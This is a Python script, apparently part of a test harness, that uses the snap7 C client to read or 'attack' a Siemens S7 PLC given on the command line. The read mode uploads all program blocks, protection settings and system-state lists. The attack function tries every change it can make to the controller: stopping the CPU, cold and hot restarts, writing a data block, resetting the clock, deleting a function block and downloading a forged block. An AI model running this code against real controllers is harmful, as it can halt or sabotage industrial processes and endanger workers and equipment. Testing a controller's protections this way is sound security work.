"""Run by the python of .aside/snap7-c: the genuine C client reads, or attacks, a CPU; JSON out.

c_client.py read|attack HOST PORT SLOT [PASSWORD]
"""

import importlib
import json
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

snap7 = importlib.import_module("snap7")  # version 2.1.0: not the one that the type checker sees
types = importlib.import_module("snap7.type")
Stranger = Any  # objects of that library; the types that are installed here are another version's
SZL = (
    "0011/0", "001c/0", "0232/4", "0131/1", "0132/1", "0424/0", "0074/0", "00a0/0", "01a0/2",
    "0d91/0", "0591/0", "0092/0", "0013/0", "0014/0", "0015/0",
)  # fmt: skip
BLOCKS = ("OB", "FB", "FC", "DB", "SDB")


def _text(value: object) -> object:
    return value.decode("latin-1") if isinstance(value, bytes) else value


def _fields(structure: Stranger) -> dict[str, Any]:
    return {name: _text(getattr(structure, name)) for name, _ in structure._fields_}


def _szl(client: Stranger, number: int, index: int = 0) -> dict[str, Any]:
    answer = client.read_szl(number, index)
    length, count = answer.Header.LengthDR, answer.Header.NDR
    data = bytes(bytearray(answer.Data)[: length * count])
    return {"length": length, "records": [data[n * length :][:length].hex() for n in range(count)]}


def _block(client: Stranger, kind: str, number: int) -> dict[str, Any]:
    which = types.Block[kind]
    try:
        data, size = client.full_upload(which, number)
        image = bytes(data[:size]).hex()
    except RuntimeError as refused:
        image = f"refused: {refused}"
    return {"info": _fields(client.get_block_info(which, number)), "image": image}


def read(client: Stranger) -> dict[str, Any]:
    """Everything that a client can read."""
    counts = client.list_blocks()
    found = {}
    for kind in BLOCKS:
        count = getattr(counts, f"{kind}Count")
        numbers = client.list_blocks_of_type(types.Block[kind], count) if count else []
        found[kind] = {str(number): _block(client, kind, number) for number in numbers}
    return {
        "pdu": client.get_pdu_length(),
        "order": _fields(client.get_order_code()),
        "cpu": _fields(client.get_cpu_info()),
        "state": client.get_cpu_state(),
        "cp": _fields(client.get_cp_info()),
        "protection": _fields(client.get_protection()),
        "clock": client.get_plc_datetime().isoformat(),
        "counts": _fields(counts),
        "blocks": found,
        "lists": _szl(client, 0)["records"],
        "szl": {name: _szl(client, int(name[:4], 16), int(name[5:], 16)) for name in SZL},
    }


def attack(client: Stranger) -> dict[str, str]:
    """Everything that would change a controller; says how each attempt ended."""
    image = bytearray(b"pp\x01\x01\x01\x0c\x00\x01\x00\x00\x00\x48" + bytes(60))
    attempts: dict[str, Callable[[], object]] = {
        "stop": client.plc_stop,
        "cold start": client.plc_cold_start,
        "hot start": client.plc_hot_start,
        "compress": lambda: client.compress(1000),
        "copy ram to rom": lambda: client.copy_ram_to_rom(1000),
        "write": lambda: client.db_write(10, 0, bytearray(b"\x01\x02")),
        "set clock": lambda: client.set_plc_datetime(datetime(2000, 1, 1, tzinfo=UTC)),
        "delete": lambda: client.delete(types.Block.FC, 1),
        "download": lambda: client.download(image, 1),
    }
    ended = {}
    for name, attempt in attempts.items():
        try:
            attempt()
        except RuntimeError as refused:
            ended[name] = f"refused: {refused}"
        else:
            ended[name] = "done"
    return ended


def main() -> None:
    what, host, port, slot, *password = sys.argv[1:]
    client = snap7.client.Client()
    client.connect(host, 0, int(slot), int(port))
    if password:
        client.set_session_password(password[0])
    answer = {"read": read, "attack": attack}[what](client)
    client.disconnect()
    json.dump(answer, sys.stdout)


main()
